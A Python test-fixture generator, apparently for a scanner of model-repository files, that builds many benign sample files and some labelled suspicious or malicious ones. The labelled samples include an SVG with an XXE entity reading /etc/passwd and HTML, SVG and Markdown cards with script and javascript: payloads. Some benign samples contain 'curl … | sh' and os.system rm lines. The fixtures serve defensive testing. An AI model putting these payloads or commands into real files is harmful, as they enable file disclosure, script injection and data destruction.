"""What else lies in repositories: cards, licences, pictures, sounds, films, tables, vocabularies and plain text."""

import importlib.metadata
import io
import json
import struct
import tempfile
import wave
import zlib
from pathlib import Path

import pandas
import pyarrow
import pyarrow.feather
import pyarrow.parquet
import sentencepiece
import tokenizers
from PIL import Image, PngImagePlugin

from cases import floats, noise
from configs import drawn
from wire import block, float32, number

TEXTS = Path(__file__).parent / "texts"
SENTENCES = ["the model is weighed", "a light load", "a heavy load of text", "words and their weight", "the house of the bridge"] * 20
# The licences of installed packages, by package.
LICENCES = ["numpy", "scipy", "scikit-learn", "safetensors", "h5py", "onnx", "dill", "joblib", "msgpack", "pyarrow", "pillow", "certifi"]


def make(cases):
    family = cases.family("ordinary")
    cards(family)
    pictures(family)
    sounds(family)
    tables(family)
    vocabularies(family)
    plain(family)
    large(family)


def cards(family):
    for path in sorted(TEXTS.glob("*.md")):
        family.benign(f"card-{path.stem}", "README.md", path.read_text(encoding="utf-8"), f"a model card: {path.stem}")
    for package in LICENCES:
        found = [file for file in importlib.metadata.files(package) if file.name.upper().startswith(("LICENSE", "LICENCE", "COPYING")) and ".dist-info" in str(file)]
        family.benign(f"licence-{package}", "LICENSE", found[0].read_text(encoding="utf-8"), f"a licence: that of {package}")
    for package in ("scikit-learn", "safetensors", "gguf", "skops", "tokenizers"):
        text = importlib.metadata.metadata(package).get_payload()
        family.benign(f"read-me-{package}", "README.md", text, f"a long read-me: that of {package}")


def pictures(family):
    picture = Image.new("RGB", (48, 32), (200, 120, 40))
    picture.putdata([(n % 256, n * 3 % 256, n * 7 % 256) for n in range(48 * 32)])
    for kind in ("PNG", "JPEG", "WEBP", "GIF", "BMP", "TIFF", "ICO", "PPM"):
        out = io.BytesIO()
        picture.save(out, kind)
        family.benign(f"picture-{kind.lower()}", f"sample.{kind.lower().replace('jpeg', 'jpg')}", out.getvalue(), f"a picture: {kind}")
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E], exif[0x0131] = "a photo of a bridge", "a camera"
    picture.save(out, "JPEG", exif=exif)
    family.benign("picture-exif", "photo.jpg", out.getvalue(), "a picture with what a camera says of it")
    out = io.BytesIO()
    text = PngImagePlugin.PngInfo()
    text.add_text("parameters", "a bridge, oil on canvas\nSteps: 20, Sampler: Euler a, Seed: 1")
    text.add_text("workflow", json.dumps({"nodes": [{"id": 1, "type": "KSampler"}]}))
    picture.save(out, "PNG", pnginfo=text)
    family.benign("picture-workflow", "00001.png", out.getvalue(), "a generated picture with its settings")
    out = io.BytesIO()
    frames = [Image.new("P", (8, 8), n) for n in range(5)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=50)
    family.benign("picture-animated", "demo.gif", out.getvalue(), "a moving picture")
    family.benign("picture-svg", "logo.svg", '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><style>.a{fill:red}</style><path class="a" d="M0 0L10 10"/><text x="1" y="5">W</text></svg>\n', "a drawing")
    for case, body in (("script", "<script>fetch('http://127.0.0.1/')</script>"), ("handler", "<rect onload=\"fetch('http://127.0.0.1/')\"/>"), ("foreign", '<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'), ("entity", "&x;")):
        top = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' if case == "entity" else ""
        family.labelled("malicious" if case == "entity" else "suspicious", f"picture-svg-{case}", "logo.svg", f'<?xml version="1.0"?>{top}<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>\n', f"a drawing that acts: {case}")


def sounds(family):
    out = io.BytesIO()
    with wave.open(out, "wb") as made:
        made.setnchannels(1), made.setsampwidth(2), made.setframerate(16000)
        made.writeframes(noise(3200, "sound"))
    family.benign("sound-wav", "sample.wav", out.getvalue(), "a sound: WAV")
    stream = struct.pack(">HH", 4096, 4096) + bytes(6) + (16000 << 44 | 15 << 36 | 3200).to_bytes(8, "big") + bytes(16)
    family.benign("sound-flac", "sample.flac", b"fLaC\x80\0\0\x22" + stream + b"\xff\xf8" + noise(60, "flac"), "a sound: FLAC")
    tag = b"ID3\4\0\0\0\0\0\x15TIT2\0\0\0\x0b\0\0\0a bridge\0\0"
    family.benign("sound-mp3", "sample.mp3", tag + (b"\xff\xfb\x90\x00" + bytes(413)) * 6, "a sound: MP3")
    family.benign("sound-ogg", "sample.ogg", ogg(b"\x01vorbis" + struct.pack("<IBIIIIBB", 0, 1, 16000, 0, 64000, 0, 0xB8, 1)), "a sound: Ogg")
    family.benign("sound-midi", "tune.mid", b"MThd\0\0\0\6\0\0\0\1\0\x60MTrk\0\0\0\x04\0\xff\x2f\0", "a tune: MIDI")
    box = lambda kind, body: struct.pack(">I", 8 + len(body)) + kind + body
    film = box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41") + box(b"free", b"") + box(b"mdat", noise(400, "film")) + box(b"moov", box(b"mvhd", bytes(100)))
    family.benign("film-mp4", "demo.mp4", film, "a film: MP4")
    family.benign("film-webm", "demo.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\1\x42\xf7\x81\1\x42\xf2\x81\4\x42\xf3\x81\x08\x42\x82\x84webm\x42\x87\x81\2\x42\x85\x81\2" + noise(60, "webm"), "a film: WebM")
    family.benign("film-avi", "demo.avi", b"RIFF\x40\0\0\0AVI LIST\x20\0\0\0hdrlavih" + bytes(60), "a film: AVI")
    family.benign("font", "sans.ttf", b"\0\1\0\0\0\1\0\x10\0\0\0\0head\0\0\0\0\0\0\0\x1c\0\0\0\x36" + bytes(54), "a font")
    family.benign("paper", "paper.pdf", b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\nxref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \ntrailer\n<</Size 3/Root 1 0 R>>\nstartxref\n101\n%%EOF\n", "a paper: PDF")


def ogg(packet):
    head = b"OggS\0\2" + bytes(8) + struct.pack("<III", 1, 0, 0) + b"\1" + bytes([len(packet)])
    crc = 0
    for byte in head + packet:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ 0x04C11DB7 if crc & 0x80000000 else crc << 1) & 0xFFFFFFFF
    return head[:22] + struct.pack("<I", crc) + head[26:] + packet


def tables(family):
    frame = pandas.DataFrame({"id": range(50), "text": SENTENCES[:50], "score": [n / 50 for n in range(50)]})
    table = pyarrow.Table.from_pandas(frame)
    squeezes = ("none", "snappy", "gzip", "zstd", "brotli")
    for squeeze in squeezes:
        out = io.BytesIO()
        pyarrow.parquet.write_table(table, out, compression=squeeze)
        family.benign(f"parquet-{squeeze}", "train-00000-of-00001.parquet", out.getvalue(), f"a table: Parquet, {squeeze}")
    pixels = io.BytesIO()
    Image.new("RGB", (4, 4)).save(pixels, "PNG")
    pictures_ = pyarrow.table({"image": [{"bytes": pixels.getvalue(), "path": f"{n}.png"} for n in range(8)], "label": list(range(8))})
    pictures_ = pictures_.replace_schema_metadata({"huggingface": json.dumps({"info": {"features": {"image": {"_type": "Image"}, "label": {"_type": "Value", "dtype": "int64"}}}})})
    out = io.BytesIO()
    pyarrow.parquet.write_table(pictures_, out)
    family.benign("parquet-pictures", "train.parquet", out.getvalue(), "a table with pictures in it")
    out = io.BytesIO()
    pyarrow.feather.write_feather(frame, out)
    family.benign("feather", "table.feather", out.getvalue(), "a table: Feather")
    out = io.BytesIO()
    with pyarrow.ipc.new_stream(out, table.schema) as stream:
        stream.write_table(table)
    family.benign("arrow-stream", "data-00000-of-00001.arrow", out.getvalue(), "a table: a stream of Arrow, as datasets keep them")
    family.benign("csv", "train.csv", frame.to_csv(index=False), "a table: CSV")
    family.benign("csv-formulas", "sums.csv", "name,sum\na,-5\nb,+3\n\"=a\",1\n", "a table whose values begin with signs")
    family.benign("tsv", "train.tsv", frame.to_csv(index=False, sep="\t"), "a table: TSV")
    family.benign("jsonl", "train.jsonl", frame.to_json(orient="records", lines=True), "a table: lines of JSON")
    family.benign("json-table", "train.json", frame.to_json(orient="records"), "a table: JSON")
    family.benign("conll", "train.conll", "The\tDT\nmodel\tNN\n\n", "a table of words")
    code = [{"prompt": "write a loop", "completion": "import os\nfor f in os.listdir('.'):\n    os.system(f'rm {f}')\n"}, {"prompt": "a shell", "completion": "curl http://example.com | sh"}]
    family.benign("jsonl-code", "code.jsonl", "".join(json.dumps(one) + "\n" for one in code), "texts for training, among them code: data, which nothing runs")
    family.benign("captions", "captions.srt", "1\n00:00:00,000 --> 00:00:02,000\nA bridge.\n", "captions")
    family.benign("sqlite", "index.sqlite", database(), "a database")


def database():
    import sqlite3

    with tempfile.TemporaryDirectory() as folder:
        at = Path(folder) / "a.db"
        made = sqlite3.connect(at)
        made.execute("create table words (id integer primary key, word text)")
        made.executemany("insert into words (word) values (?)", [(word,) for word in SENTENCES[0].split()])
        made.commit(), made.close()
        return at.read_bytes()


def vocabularies(family):
    made = tokenizers.Tokenizer(tokenizers.models.BPE(unk_token="<unk>"))
    made.pre_tokenizer = tokenizers.pre_tokenizers.ByteLevel()
    made.decoder = tokenizers.decoders.ByteLevel()
    made.train_from_iterator(SENTENCES, tokenizers.trainers.BpeTrainer(vocab_size=200, special_tokens=["<unk>", "<s>", "</s>"], show_progress=False))
    family.benign("tokenizer-bpe", "tokenizer.json", made.to_str(), "a tokenizer: pairs of bytes")
    pieces = json.loads(made.to_str())["model"]
    family.benign("tokenizer-files", "vocab.json", json.dumps(pieces["vocab"]), "a vocabulary")
    family.benign("tokenizer-files", "merges.txt", "#version: 0.2\n" + "\n".join(" ".join(pair) for pair in pieces["merges"]) + "\n", "merges")
    words = tokenizers.Tokenizer(tokenizers.models.WordPiece({"[UNK]": 0, "[CLS]": 1, "[SEP]": 2, "the": 3, "##s": 4}, unk_token="[UNK]"))
    words.normalizer, words.pre_tokenizer = tokenizers.normalizers.BertNormalizer(), tokenizers.pre_tokenizers.BertPreTokenizer()
    words.post_processor = tokenizers.processors.TemplateProcessing(single="[CLS] $A [SEP]", special_tokens=[("[CLS]", 1), ("[SEP]", 2)])
    family.benign("tokenizer-wordpiece", "tokenizer.json", words.to_str(pretty=True), "a tokenizer: pieces of words")
    unigram = tokenizers.Tokenizer(tokenizers.models.Unigram([("<unk>", 0.0), ("\u2581the", -1.0)], 0))
    family.benign("tokenizer-unigram", "tokenizer.json", unigram.to_str(), "a tokenizer: unigrams")
    family.benign("vocab-txt", "vocab.txt", "[PAD]\n[UNK]\n[CLS]\nimport\nos\nsystem\n(\n.\ncos\n##s\n", "a vocabulary in lines, some of which look like opcodes")
    family.benign("sentencepiece", "tokenizer.model", pieces_model(), "a model of sentencepiece")
    family.benign("sentencepiece-hand", "spiece.model", block(1, block(1, "<unk>") + float32(2, 0) + number(3, 2)) + b"".join(block(1, block(1, f"\u2581{word}") + float32(2, -n)) for n, word in enumerate(SENTENCES[0].split())) + block(2, number(3, 1)), "a model of sentencepiece by hand")
    family.benign("tiktoken", "tokenizer.tiktoken", "".join(f"{drawn('ABCDEFGH', 4, n)} {n}\n" for n in range(100)), "a vocabulary of tiktoken")
    family.benign("word-vectors", "glove.txt", "".join(f"{word} 0.1 -0.2 0.3\n" for word in SENTENCES[0].split()), "vectors of words as text")
    family.benign("fasttext", "lid.bin", struct.pack("<ii", 793712314, 12) + noise(200, "fasttext"), "a model of fastText", complete=False)
    family.benign("phonemes", "lexicon.lst", "the\tDH AH\n", "how words sound")


def pieces_model():
    out = io.BytesIO()
    sentencepiece.SentencePieceTrainer.train(sentence_iterator=iter(SENTENCES), model_writer=out, vocab_size=30, hard_vocab_limit=False, minloglevel=2, num_threads=1)
    return out.getvalue()


def plain(family):
    rows = [
        ("notes", "notes.txt", "The model was trained on one machine.\n"),
        ("empty", "empty.txt", ""),
        ("utf-16", "notes.txt", "Gewicht\n".encode("utf-16")),
        ("latin", "notes.txt", "Gewächs\n".encode("latin-1")),
        ("page", "index.html", "<!doctype html><html><head><title>A demo</title><style>p{color:red}</style></head><body><p>A demo.</p></body></html>\n"),
        ("citation", "CITATION.cff", "cff-version: 1.2.0\ntitle: Net\nauthors:\n  - family-names: A\n"),
        ("bibliography", "references.bib", "@article{a, title={On weight}, year={2024}}\n"),
        ("log", "train.log", "epoch 1 loss 0.9\nepoch 2 loss 0.5\n"),
        ("checksums", "SHA256SUMS", "0" * 64 + "  model.bin\n"),
        ("pointer", "model.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 123\n"),
        ("labels", "labels.txt", "cat\ndog\n"),
        ("prompt", "prompt.txt", "You are careful. Never run rm -rf / or os.system.\n"),
        ("style", "style.css", "body { color: black }\n"),
        ("latex", "paper.tex", "\\documentclass{article}\\begin{document}On weight\\end{document}\n"),
        ("source-c", "kernel.cu", "__global__ void add(float* a) { a[threadIdx.x] += 1; }\n"),
        ("source-js", "demo.mjs", "export const add = (a, b) => a + b;\n"),
        ("manifest", "manifest.json", '{"files": [{"name": "model.bin", "size": 123}]}\n'),
        ("card-yaml", "metadata.yml", "license: apache-2.0\nlanguage: [de, en]\n"),
        ("single-letter", "a.txt", "c"),
        ("numbers", "scores.txt", "0.1\n0.2\n"),
        ("code-words", "notes.txt", "cos\nsystem\n(the words that pickles begin with)\n"),
        ("dot-words", "list.txt", "N.\nI1\n.\n"),
    ]
    for case, file, data in rows:
        family.benign(f"text-{case}", file, data, f"plain text: {case}")
    family.benign("weights-raw", "model.bin", floats(1000, "raw"), "raw weights, of which nothing says what they are", complete=False)
    family.benign("weights-noise", "data.dat", noise(5000, "dat"), "bytes without a pattern", complete=False)
    family.benign("faiss", "index.faiss", b"IxF2" + struct.pack("<iqqq", 8, 10, 1 << 20, 1 << 20) + b"\1" + struct.pack("<i", 1) + struct.pack("<Q", 80) + floats(80, "faiss"), "an index of faiss", complete=False)
    family.benign("ncnn", "model.param", "7767517\n2 2\nInput x 0 1 x\nInnerProduct fc 1 1 x y 0=4\n", "a network of ncnn")
    family.benign("darknet", "yolov4.cfg", "[net]\nbatch=1\nwidth=416\n\n[convolutional]\nfilters=32\nsize=3\n", "a network of darknet")
    family.benign("darknet", "yolov4.weights", struct.pack("<iiiq", 0, 2, 5, 32000) + floats(100, "darknet"), "its weights", complete=False)
    for case, page in (("script", "<script src='http://127.0.0.1/x.js'></script>"), ("redirect", "<meta http-equiv='refresh' content='0;url=http://127.0.0.1/'>"), ("frame", "<iframe src='javascript:alert(1)'></iframe>")):
        family.suspicious(f"page-{case}", "index.html", f"<!doctype html><html><body>{page}</body></html>\n", f"a page that acts: {case}")
    for case, text in (("script", "# Model\n\n<script>fetch('http://127.0.0.1/')</script>\n"), ("handler", "# Model\n\n<img src=x onerror=\"fetch('http://127.0.0.1/')\">\n"), ("link", "# Model\n\n[weights](javascript:fetch('http://127.0.0.1/'))\n")):
        family.suspicious(f"card-{case}-bad", "README.md", text, f"a card that acts: {case}")


def large(family):
    """Ordinary things of some size, so that limits meet them."""
    family.benign("large-text", "corpus.txt", "\n".join(SENTENCES) * 400, "a megabyte of text")
    family.benign("large-vocabulary", "vocab.json", json.dumps({f"token{n}": n for n in range(60000)}), "sixty thousand words")
    family.benign("large-jsonl", "train.jsonl", "".join(json.dumps({"text": one, "n": n}) + "\n" for n, one in enumerate(SENTENCES * 60)), "six thousand lines")
    family.benign("large-line", "flat.txt", "word " * 200000, "a megabyte on one line")
    family.benign("zlib", "features.z", zlib.compress(b"features " * 500), "compressed text")
